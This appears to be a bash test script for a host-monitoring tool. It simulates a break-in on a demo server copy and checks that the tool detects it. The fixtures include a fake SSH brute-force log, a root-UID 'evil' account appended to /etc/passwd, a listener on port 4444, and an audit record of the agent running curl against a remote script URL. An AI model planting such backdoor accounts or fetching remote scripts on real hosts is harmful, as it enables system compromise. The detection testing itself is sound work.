#!/usr/bin/env bash
# shellcheck disable=SC2016 # jq filters are single-quoted on purpose
# scripts/monitor on a copy of the demo server: the first run records the
# state and is quiet once a fim baseline exists; then a brute force that
# succeeds, a changed watched file, a unit that lost its User= (changed,
# now root, exposure worse) and a new listener are
# each reported (exit 1), and the run after that is quiet again except for
# fim (a changed file stays reported until `fim update`). Runs without root.
set -euo pipefail
# shellcheck source=scripts/tests/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
command -v jq >/dev/null || { echo "monitor: jq is needed (apt-get install jq)" >&2; exit 1; }
build_tools
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
r=$tmp/root
cp -a "$top/examples/compromised-agent-host" "$r"
echo agent-demo-1 >"$r/etc/hostname"
# Yesterday's break-in is first-five's story; monitor starts from a clean log.
: >"$r/var/log/auth.log"
# The agent runs as its own user when monitoring starts.
sed -i 's/^\[Service\]$/[Service]\nUser=agent/' "$r/etc/systemd/system/agent.service"
monitor() { "$top/scripts/monitor" --root "$r" "$@"; }

rc=0
monitor >"$tmp/out" 2>&1 || rc=$?
expect_status 1 "$rc" "monitor without a fim baseline"
check "reports the missing baseline" grep -q "No file-integrity baseline" "$tmp/out"

"$HARDKIT_BIN_DIR/fim" init --root "$r" -q 2>/dev/null
rc=0
monitor >"$tmp/out" 2>&1 || rc=$?
expect_status 0 "$rc" "monitor with a baseline"
check "silent when all is well (got: $(head -c 300 "$tmp/out"))" [ ! -s "$tmp/out" ]
check "state: last run recorded" [ -s "$r/var/lib/hardkit/monitor/last-run" ]
check "state: listeners recorded" grep -q '^8000/tcp' "$r/var/lib/hardkit/monitor/listeners"
check "state: agent.service recorded" grep -q '^agent.service' "$r/var/lib/hardkit/monitor/services.tsv"

# The attack: failures then an accepted password for root, with today's
# timestamps (syslog format, like the rest of the log).
sleep 1
now=$(date '+%b %e %H:%M:%S')
{
    for i in 1 2 3 4 5; do
        echo "$now agent-01 sshd[41$i]: Failed password for root from 203.0.113.99 port 4000$i ssh2"
    done
    echo "$now agent-01 sshd[4200]: Accepted password for root from 203.0.113.99 port 40100 ssh2"
} >>"$r/var/log/auth.log"
echo "evil:x:0:0::/root:/bin/bash" >>"$r/etc/passwd"
# ... and someone drops its User= line: it runs as root again.
sed -i '/^User=agent$/d' "$r/etc/systemd/system/agent.service"
# A new listener on all interfaces: 0.0.0.0:4444.
echo "   3: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 29999 1 0000000000000000 100 0 0 10 0" >>"$r/proc/net/tcp"

rc=0
monitor --json >"$tmp/out.jsonl" 2>"$tmp/err" || rc=$?
expect_status 1 "$rc" "monitor --json after the attack"
expect_jsonl "$tmp/out.jsonl" "monitor --json"
expect_ids "$tmp/out.jsonl" "monitor" logscan/brute-force-success logscan/root-login monitor/unit-changed monitor/now-root monitor/exposure-worse monitor/new-listener
check "fim change of /etc/passwd reported" has "$tmp/out.jsonl" '.type == "change" and .path == "/etc/passwd"'
check "monitor_verdict record says exit 1" has "$tmp/out.jsonl" '.type == "monitor_verdict" and .tool == "monitor" and .exit == 1 and .problems > 0'
check "... and which system, when (the tree's /etc/hostname, the run's time)" has "$tmp/out.jsonl" '.type == "monitor_verdict" and .hostname == "agent-demo-1" and (.time | test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:]{8}Z$"))'
check "monitor writes no record of a shared type with fields of its own" \
    bash -c '! jq -e -s "any(.[]; .tool == \"monitor\" and (.type | IN(\"summary\", \"action\")))" "$1" >/dev/null' _ "$tmp/out.jsonl"

# The human report of the same kind of run: short, and exit 1. (The state
# was updated by the run above, so only fim's change is still there.)
rc=0
monitor >"$tmp/out" 2>&1 || rc=$?
expect_status 1 "$rc" "monitor after the attack, second run"
check "fim change still reported" grep -q '/etc/passwd' "$tmp/out"
check "the brute force is not reported twice" bash -c '! grep -q "203.0.113.99" "$1"' _ "$tmp/out"
check "report is short ($(wc -l <"$tmp/out") lines)" [ "$(wc -l <"$tmp/out")" -le 12 ]
check "the report says the baseline has no key" grep -q 'not protected by a key' "$tmp/out"

# After fim update the run is quiet again.
"$HARDKIT_BIN_DIR/fim" update --root "$r" -q >/dev/null 2>&1 || true
rc=0
monitor >"$tmp/out" 2>&1 || rc=$?
expect_status 0 "$rc" "monitor after fim update"

# A keyed baseline (issue 14 item 12), the one the README recommends:
# monitor --fim-key FILE checks it; the key is kept off the tree checked.
(umask 077 && head -c 32 /dev/urandom >"$tmp/fim.key")
rm "$r/var/lib/hardkit/fim.db"
"$HARDKIT_BIN_DIR/fim" init --root "$r" --key "$tmp/fim.key" -q >/dev/null
rc=0
monitor --fim-key "$tmp/fim.key" >"$tmp/out" 2>&1 || rc=$?
expect_status 0 "$rc" "monitor --fim-key with a keyed baseline"
check "silent when all is well, keyed (got: $(head -c 300 "$tmp/out"))" [ ! -s "$tmp/out" ]
echo "evil2:x:0:0::/root:/bin/bash" >>"$r/etc/passwd"
rc=0
monitor --fim-key "$tmp/fim.key" --json >"$tmp/keyed.jsonl" 2>&1 || rc=$?
expect_status 1 "$rc" "monitor --fim-key after a change"
check "keyed: the change is reported" has "$tmp/keyed.jsonl" '.type == "change" and .path == "/etc/passwd"'
check "keyed: no word of an unprotected baseline" bash -c '! grep -q "fim-baseline-unprotected" "$1"' _ "$tmp/keyed.jsonl"
cp "$tmp/fim.key" "$r/etc/fim.key"
rc=0
monitor --fim-key "$r/etc/fim.key" >/dev/null 2>"$tmp/inside.err" || rc=$?
expect_status 2 "$rc" "monitor --fim-key with the key inside --root"
check "the refusal names --fim-key" grep -q -- '--fim-key' "$tmp/inside.err"

# The state is written through hardkit-write (issue 14): a state directory
# another user planted as a link to a directory of root's, or made
# themselves, is refused, and nothing is written or chmodded there. (The
# code before followed the link: mkdir -p, chmod 700, cp.)
if ((EUID == 0)); then
    install -d -m 0755 "$tmp/victim"
    chmod 0711 "$tmp"
    install -d -m 1777 "$tmp/pub"
    setpriv --reuid=4242 --regid=4242 --clear-groups ln -s "$tmp/victim" "$tmp/pub/state"
    setpriv --reuid=4242 --regid=4242 --clear-groups mkdir -m 0777 "$tmp/pub/own"
    for d in state own; do
        rc=0
        monitor --state "$tmp/pub/$d" >/dev/null 2>"$tmp/state-$d.err" || rc=$?
        expect_status 2 "$rc" "monitor --state: a $d another user controls"
        check "the refusal names the other user (got: $(head -c 200 "$tmp/state-$d.err"))" grep -q 'uid 4242' "$tmp/state-$d.err"
    done
    check "nothing written through the link, mode kept" \
        bash -c '[ -z "$(ls -A "$1")" ] && [ "$(stat -c %a "$1")" == 755 ]' _ "$tmp/victim"
    check "nothing written into the user's directory" [ -z "$(ls -A "$tmp/pub/own")" ]
    chmod 0700 "$tmp"
else
    echo "NOT RUN: scripts/tests/monitor.sh state-link part: needs root" | tee -a "${HARDKIT_NOT_RUN_LOG:-/dev/null}" >&2
fi

# --- security updates -------------------------------------------------------------
# The demo's two pending security updates were first seen by the first run;
# moved 4 days back, they are reported with the default --updates-age 3 and
# not with --updates-age 10. (The baseline is keyed since the part above.)
monitor_keyed() { monitor --fim-key "$tmp/fim.key" "$@"; }
st=$r/var/lib/hardkit/monitor
check "state: the pending security updates are remembered (got: $(paste -sd' ' "$st/pending"))" grep -q '^openssh-server:amd64 1:9.2p1-2+deb12u9 [0-9]' "$st/pending"
awk '{ $3 -= 4 * 86400; print }' "$st/pending" >"$tmp/pending" && cp "$tmp/pending" "$st/pending"
monitor_keyed --json --updates-age 10 >"$tmp/upd10.jsonl" 2>&1 || true
check "pending for 4 days: not reported with --updates-age 10" \
    jq_quiet -s -e 'all(.[]; .id != "monitor/updates-pending")' "$tmp/upd10.jsonl"
monitor_keyed --json >"$tmp/upd3.jsonl" 2>&1 || true
check "pending for 4 days: reported with the default --updates-age 3, naming the package" \
    has "$tmp/upd3.jsonl" '.type == "finding" and .id == "monitor/updates-pending" and .severity == "high" and (.detail | contains("openssh-server:amd64 1:9.2p1-2+deb12u9 (first seen 4 days ago)"))'
rc=0
monitor_keyed --updates-age x >/dev/null 2>&1 || rc=$?
expect_status 2 "$rc" "monitor_keyed --updates-age x"
# Switched on (secupdates apply), then off again in a later file: the run
# after that reports it once.
"$HARDKIT_BIN_DIR/secupdates" apply --root "$r" -q >/dev/null
monitor_keyed --json >"$tmp/on.jsonl" 2>&1 || true
check "automatic updates on: no secupdates finding reported" \
    jq_quiet -s -e 'all(.[]; .tool != "secupdates")' "$tmp/on.jsonl"
printf 'APT::Periodic::Unattended-Upgrade "0";\n' >"$r/etc/apt/apt.conf.d/99local"
monitor_keyed --json >"$tmp/off.jsonl" 2>&1 || true
check "switched off in 99local: reported at its line" \
    has "$tmp/off.jsonl" '.type == "finding" and .id == "secupdates/interval-off" and .location.path == "/etc/apt/apt.conf.d/99local" and .location.line == 1'
monitor_keyed --json >"$tmp/off2.jsonl" 2>"$tmp/off2.err" || true
check "... once: the next run does not repeat it" \
    jq_quiet -s -e 'all(.[]; .id != "secupdates/interval-off")' "$tmp/off2.jsonl"

# --- the AI stack ---------------------------------------------------------------------
# The demo's stack, fixed (aistack apply), is the state; a later edit that
# publishes Ollama on every address again is reported once, at its line.
"$HARDKIT_BIN_DIR/aistack" apply --root "$r" -q >/dev/null
monitor_keyed --json >"$tmp/stack0.jsonl" 2>&1 || true
check "the AI stack as recorded: no aistack finding repeated" \
    jq_quiet -s -e 'all(.[]; .tool != "aistack")' "$tmp/stack0.jsonl"
install -d "$r/srv/llm"
printf 'services:\n  llm:\n    image: ollama/ollama:0.6.2\n    ports:\n      - "11434:11434"\n' >"$r/srv/llm/compose.yaml"
monitor_keyed --json >"$tmp/stack1.jsonl" 2>&1 || true
check "a new Ollama published on every address: reported, critical, at its port's line" \
    has "$tmp/stack1.jsonl" '.type == "finding" and .tool == "aistack" and .id == "aistack/no-auth-exposed" and .severity == "critical" and .location.path == "/srv/llm/compose.yaml" and .location.line == 5'
monitor_keyed --json >"$tmp/stack2.jsonl" 2>&1 || true
check "... once: the next run does not repeat it" \
    jq_quiet -s -e 'all(.[]; .tool != "aistack")' "$tmp/stack2.jsonl"

# --- where the agent's account connects ----------------------------------------------
# The agent runs as its own account again; an outbound connection of that
# account to a new destination is reported once; root's is not.
sed -i 's/^\[Service\]$/[Service]\nUser=agent/' "$r/etc/systemd/system/agent.service"
agent_uid=$(awk -F: '$1 == "agent" { print $3 }' "$r/etc/passwd")
monitor_keyed --json >"$tmp/out0.jsonl" 2>&1 || true
printf '   7: 0A00000A:A000 097100CB:01BB 01 00000000:00000000 00:00000000 00000000 %5d        0 30001 1 0000000000000000 100 0 0 10 0\n' "$agent_uid" >>"$r/proc/net/tcp"
printf '   8: 0A00000A:A001 097100CB:0050 01 00000000:00000000 00:00000000 00000000     0        0 30002 1 0000000000000000 100 0 0 10 0\n' >>"$r/proc/net/tcp"
monitor_keyed --json >"$tmp/out1.jsonl" 2>&1 || true
check "the agent's new destination 203.0.113.9:443 is reported" \
    has "$tmp/out1.jsonl" '.type == "finding" and .id == "monitor/new-outbound" and (.title | startswith("agent connected to 203.0.113.9 port 443"))'
check "... root's connection is not" \
    jq_quiet -s -e 'all(.[]; .id != "monitor/new-outbound" or (.title | contains("port 80,") | not))' "$tmp/out1.jsonl"
monitor_keyed --json >"$tmp/out2.jsonl" 2>&1 || true
check "... once" jq_quiet -s -e 'all(.[]; .id != "monitor/new-outbound")' "$tmp/out2.jsonl"

# --- what the agent ran (auditd's log, svcacct's audit rules) --------------------------
mkdir -p "$r/var/log/audit"
: >"$r/var/log/audit/audit.log"
monitor_keyed --json >/dev/null 2>&1 || true
sleep 1
t=$(date +%s)
{
    printf 'type=SYSCALL msg=audit(%s.100:901): arch=c000003e syscall=59 success=yes exit=0 uid=%s comm="curl" exe="/usr/bin/curl" key="hardkit-agent-exec"\n' "$t" "$agent_uid"
    printf 'type=EXECVE msg=audit(%s.100:901): argc=3 a0="curl" a1="-fsSL" a2="http://203.0.113.45/x.sh"\n' "$t"
    printf 'type=PROCTITLE msg=audit(%s.100:901): proctitle=6375726C\n' "$t"
    printf 'type=SYSCALL msg=audit(%s.200:902): arch=c000003e syscall=59 success=yes exit=0 uid=%s comm="python3" exe="/usr/bin/python3.11" key="hardkit-agent-exec"\n' "$t" "$agent_uid"
    printf 'type=EXECVE msg=audit(%s.200:902): argc=2 a0="python3" a1="/var/lib/agent/app/loop.py"\n' "$t"
    printf 'type=PROCTITLE msg=audit(%s.200:902): proctitle=707974686F6E33\n' "$t"
} >>"$r/var/log/audit/audit.log"
monitor_keyed --json >"$tmp/audit1.jsonl" 2>&1 || true
check "the agent's download through curl is a finding (auditd's log)" \
    has "$tmp/audit1.jsonl" '.type == "finding" and .id == "logscan/agent-download" and (.title | contains("http://203.0.113.45/x.sh"))'
check "... and its commands are summed up (curl, python3.11)" \
    has "$tmp/audit1.jsonl" '.type == "finding" and .id == "monitor/agent-commands" and (.title | startswith("agent ran 2 command(s)")) and (.detail | contains("curl (1)"))'
monitor_keyed --json >"$tmp/audit2.jsonl" 2>&1 || true
check "... once: the next run reads from there on" jq_quiet -s -e 'all(.[]; .id != "logscan/agent-download")' "$tmp/audit2.jsonl"

finish monitor
